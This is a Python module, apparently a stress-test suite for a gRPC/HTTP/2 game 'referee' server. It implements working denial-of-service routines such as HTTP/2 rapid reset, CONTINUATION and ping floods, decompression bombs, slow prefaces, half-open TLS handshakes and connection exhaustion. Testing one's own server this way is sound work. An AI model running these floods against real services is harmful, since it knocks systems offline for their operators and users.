"""Attacks on the address of the referee, which need no token."""

import contextlib
import gzip
import multiprocessing
import os
import re
import socket
import struct
import time
import zlib
from collections.abc import Callable

from .catalogue import attack
from .wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    FRAME_BYTES,
    HEADERS,
    HEALTH_CHECK,
    HEALTH_WATCH,
    INITIAL_WINDOW_SIZE,
    LIST_MATCHES,
    PING,
    PLAY,
    PREFACE,
    PRIORITY,
    REFLECTION,
    WATCH,
    WINDOW_UPDATE,
    Connection,
    Target,
    frame,
    header_block,
    message,
    settings,
)

MIB = 1 << 20
_HELLO = b"\x0a\x0c\x08\x01\x12\x08stranger"
"""PlayRequest{hello {protocol_version: 1, token: "stranger"}}."""


def text_field(text: bytes) -> bytes:
    """Return a message whose first field is this text."""
    size, prefix = len(text), bytearray([0x0A])
    while size >= 128:
        prefix.append(size % 128 + 128)
        size //= 128
    return bytes([*prefix, size]) + text


@attack(stranger=True)
def silent_streams(target: Target) -> None:
    """Hold 400 streams open that never send Hello."""
    held: list[tuple[Connection, set[int]]] = []
    for _ in target.rounds(0.02):
        with contextlib.suppress(OSError):
            if len(held) < 4:
                held.append((Connection(target), set()))
        for connection, streams in held.copy():
            try:
                connection.pump(0)
                streams.difference_update(connection.ended)
                connection.ended.clear()
                while len(streams) < 100:
                    streams.add(connection.open(PLAY))
            except OSError:
                held.remove((connection, streams))


@attack(stranger=True)
def idle_connections(target: Target) -> None:
    """Hold as many connections open as the system lets this program have; say nothing."""
    _hold_connections(target, b"")


@attack(stranger=True)
def idle_http2_connections(target: Target) -> None:
    """Hold as many connections open as possible that have agreed on HTTP/2 and call nothing."""
    _hold_connections(target, PREFACE + settings())


def _hold_connections(target: Target, first: bytes) -> None:
    def hold() -> None:
        held: list[socket.socket] = []
        for number in target.rounds():
            try:
                held.append(target.connect_bare() if number % 2 else target.connect())
                held[-1].sendall(first)
            except OSError:
                time.sleep(0.05)
                if number % 100 == 99:  # replace those that the server has closed
                    held = [one for one in held if _is_open(one)]

    _in_processes(hold, 4)


def _is_open(one: socket.socket) -> bool:
    try:
        one.setblocking(False)
        return one.recv(65_536) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def _in_processes(work: Callable[[], None], number: int) -> None:
    """Do this in so many processes, each with its own limit of descriptors."""
    fork = multiprocessing.get_context("fork")
    children = [fork.Process(target=work) for _ in range(number)]
    for child in children:
        child.start()
    for child in children:
        child.join()


@attack(stranger=True)
def health_names(target: Target) -> None:
    """Check the health of services with names of 6 MiB."""
    _call_again(target, HEALTH_CHECK, text_field(b"n" * (6 * MIB)))


@attack(stranger=True)
def watch_names(target: Target) -> None:
    """Watch matches with names of 7 MiB."""
    _call_again(target, WATCH, text_field(b"m" * (7 * MIB)))


@attack(stranger=True)
def large_hellos(target: Target) -> None:
    """Send first requests of 7 MiB."""
    _call_again(target, PLAY, text_field(b"h" * (7 * MIB)))


def _call_again(target: Target, path: str, request: bytes, calls: int = 4) -> None:
    """Repeat a call, so many times at once on one connection."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for _ in target.rounds():
                streams = [connection.call(path, request) for _ in range(calls)]
                for stream in streams:
                    connection.wait_for_end(stream)
                    connection.ended.discard(stream)


@attack(stranger=True)
def health_watches(target: Target) -> None:
    """Open 30,000 Health.Watch, and drop all of them at once."""
    for _ in target.rounds(0.1):
        held = []
        with contextlib.suppress(OSError):
            for _ in range(10):
                held.append(Connection(target))
                for number in range(3_000):
                    held[-1].call(HEALTH_WATCH, text_field(b"asara.v1.PlayService"))
                    if number % 50 == 0:
                        held[-1].pump(0)
        for connection in held:
            connection.close()


@attack(stranger=True)
def dial_in(target: Target) -> None:
    """Dial in with a wrong token, in a loop."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                connection.call(PLAY, _HELLO)
                if number % 20 == 0:
                    connection.pump(0)
                    connection.ended.clear()


@attack(stranger=True)
def dial_in_anew(target: Target) -> None:
    """Dial in with a wrong token, on a new connection each time."""
    for _ in target.rounds():
        with contextlib.suppress(OSError), Connection(target) as connection:
            connection.wait_for_end(connection.call(PLAY, _HELLO), 0.2)


@attack(stranger=True, contained=False)
def many_addresses(target: Target) -> None:
    """Begin TLS handshakes from 16,000 addresses in turn, and hold as many as possible."""
    hello = bytes.fromhex("1603010200010001fc0303") + os.urandom(100)
    held: list[socket.socket] = []
    for number in target.rounds():
        target.source = f"127.1.{number // 250 % 64}.{number % 250 + 1}"
        with contextlib.suppress(OSError):
            held.append(target.connect_bare())
            held[-1].sendall(hello)
        del held[:-800]


@attack(stranger=True)
def connection_churn(target: Target) -> None:
    """Connect and hang up."""

    def churn() -> None:
        for _ in target.rounds():
            with contextlib.suppress(OSError):
                target.connect_bare().close()

    _in_processes(churn, 2)


@attack(stranger=True)
def rapid_reset(target: Target) -> None:
    """Open streams and reset them at once."""
    block = header_block(PLAY)
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            stream = 1
            for _ in target.rounds():
                burst = bytearray()
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS, stream, block)
                    burst += frame(3, 0, stream, struct.pack(">I", 8))
                    stream += 2
                connection.send(bytes(burst))
                connection.pump(0)
                connection.ended.clear()


def _flood(target: Target, burst: bytes, *, stream: bool = False) -> None:
    """Send these frames again and again, after a call was opened if `stream`."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            if stream:
                connection.open(PLAY)
            for _ in target.rounds():
                connection.send(burst)
                connection.pump(0)


@attack(stranger=True)
def pings(target: Target) -> None:
    """Ping without a pause."""
    _flood(target, frame(PING, 0, 0, bytes(8)) * 1_000)


@attack(stranger=True)
def settings_frames(target: Target) -> None:
    """Change the settings without a pause."""
    _flood(target, settings([(INITIAL_WINDOW_SIZE, 1), (INITIAL_WINDOW_SIZE, 1 << 20)]) * 1_000)


@attack(stranger=True)
def empty_data(target: Target) -> None:
    """Send empty DATA frames on an open stream without a pause."""
    _flood(target, frame(DATA, 0, 1) * 1_000, stream=True)


@attack(stranger=True)
def window_updates(target: Target) -> None:
    """Raise the window of the connection by one byte without a pause."""
    _flood(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000, stream=True)


@attack(stranger=True)
def unknown_frames(target: Target) -> None:
    """Send frames of unknown kinds and priorities without a pause."""
    _flood(target, (frame(PRIORITY, 0, 99, bytes(5)) + frame(0xEE, 0, 0, bytes(9_000))) * 50)


@attack(stranger=True)
def acknowledgements(target: Target) -> None:
    """Acknowledge pings that were never sent."""
    _flood(target, frame(PING, ACK, 0, bytes(8)) * 1_000)


@attack(stranger=True)
def continuations(target: Target) -> None:
    """Begin headers and never end them."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            connection.send(frame(HEADERS, 0, 1, header_block(PLAY)))
            more = b"\0\x01x" + b"\x7f" + b"\x80\x7e" + b"y" * 16_255
            for _ in target.rounds():
                connection.send(frame(CONTINUATION, 0, 1, more[:FRAME_BYTES]))


@attack(stranger=True)
def metadata(target: Target) -> None:
    """Call with as much metadata as is allowed, on as many streams as possible."""
    more = [(f"x-{number}", "v" * 180) for number in range(40)]
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                connection.open(PLAY, more)
                if number % 10 == 0:
                    connection.pump(0)
                    connection.ended.clear()


@attack(stranger=True)
def unknown_methods(target: Target) -> None:
    """Call methods that do not exist, with names of 4 KiB that never repeat."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                connection.open(f"/{os.urandom(4).hex() * 500}/x", end=True)
                if number % 10 == 0:
                    connection.pump(0)
                    connection.ended.clear()


@attack(stranger=True)
def unread_responses(target: Target) -> None:
    """Call what has long answers, with a window of no bytes, and never read."""
    request = text_field(b"") + b"\x22\x15asara.v1.PlayService\0"[:-1]
    symbol = b"\x22\x14asara.v1.PlayService"
    for _ in target.rounds(0.05):
        with contextlib.suppress(OSError):
            held: list[Connection] = []
            while target.left_s > 0 and len(held) < 50:
                connection = Connection(target, [(INITIAL_WINDOW_SIZE, 0)])
                held.append(connection)
                for _ in range(50):
                    stream = connection.open(REFLECTION)
                    connection.write(stream, message(symbol) * 200)
                    connection.call(LIST_MATCHES, b"")
                    connection.call(HEALTH_WATCH, request)
                connection.pump(0)


@attack(stranger=True)
def unread_watchers(target: Target) -> None:
    """Watch all matches 60 times each, with a window of no bytes."""
    for _ in target.rounds(0.5):
        with contextlib.suppress(OSError), Connection(target) as lists:
            stream = lists.open(LIST_MATCHES)
            lists.responses[stream] = bytearray()
            lists.write(stream, message(b""), end=True)
            lists.wait_for_end(stream, 1)
            names = [n for data in lists.messages(stream) for n in _MATCH_NAME.findall(data)]
            silent = Connection(target, [(INITIAL_WINDOW_SIZE, 0)])
            for name in set(names):
                for _ in range(60):
                    silent.call(WATCH, text_field(name))
            silent.pump(0.4)


_MATCH_NAME = re.compile(rb"[a-z]\d[\w+-]*")


@attack(stranger=True)
def slow_preface(target: Target) -> None:
    """Send the first bytes of 200 connections one by one."""
    held: list[tuple[socket.socket, int]] = []
    for _ in target.rounds(0.5):
        with contextlib.suppress(OSError):
            while len(held) < 200:
                held.append((target.connect_bare(), 0))
        after = []
        for one, sent in held:
            with contextlib.suppress(OSError):
                one.sendall(PREFACE[sent : sent + 1])
                after.append((one, (sent + 1) % len(PREFACE)))
        held = after


@attack(stranger=True)
def half_messages(target: Target) -> None:
    """Send all but the last byte of messages of 8 MiB, on many streams."""
    body = message(bytes(8 * MIB - 16))[:-1]
    held = []
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError):
            connection = Connection(target)
            held.append(connection)
            for _ in range(20):
                connection.write(connection.open(PLAY), body)
                connection.write(connection.open(HEALTH_CHECK), body)


@attack(stranger=True)
def inflated_messages(target: Target) -> None:
    """Send compressed messages that inflate a thousandfold."""
    bombs = {"gzip": gzip.compress(bytes(60 * MIB)), "deflate": zlib.compress(bytes(8 * MIB - 99))}
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                name = ("gzip", "deflate")[number % 2]
                for path in (PLAY, HEALTH_CHECK):
                    stream = connection.open(path, [("grpc-encoding", name)])
                    connection.write(stream, message(bombs[name], compressed=True), end=True)
                    if number % 8 == 7:
                        connection.wait_for_end(stream, 0.5)
                connection.pump(0)
                if number % 8 == 7:
                    connection.ended.clear()


@attack(stranger=True)
def expired_calls(target: Target) -> None:
    """Begin calls whose time is over at once."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                for path in (PLAY, HEALTH_WATCH):
                    connection.open(path, [("grpc-timeout", "1n")])
                if number % 10 == 0:
                    connection.pump(0)
                    connection.ended.clear()


@attack(stranger=True)
def half_closed_calls(target: Target) -> None:
    """End calls before their first message."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                connection.open(PLAY, end=True)
                if number % 20 == 0:
                    connection.pump(0)
                    connection.ended.clear()


@attack(stranger=True)
def garbage(target: Target) -> None:
    """Send what is not HTTP/2."""
    for number in target.rounds():
        with contextlib.suppress(OSError), target.connect() as one:
            first = (b"GET / HTTP/1.1\r\n\r\n", os.urandom(4_096), PREFACE + os.urandom(4_096))
            one.sendall(first[number % 3])


@attack(stranger=True, contained=False)
def tls_handshakes(target: Target) -> None:
    """Shake hands over TLS, again and again."""

    def shake() -> None:
        for _ in target.rounds():
            with contextlib.suppress(OSError):
                target.connect().close()

    _in_processes(shake, 2)


@attack(stranger=True, contained=False)
def half_open_handshakes(target: Target) -> None:
    """Send the first half of a TLS handshake, on 500 connections."""
    hello = bytes.fromhex("1603010200010001fc0303") + os.urandom(100)
    held: list[socket.socket] = []
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError):
            held.append(target.connect_bare())
            held[-1].sendall(hello)
        del held[:-500]
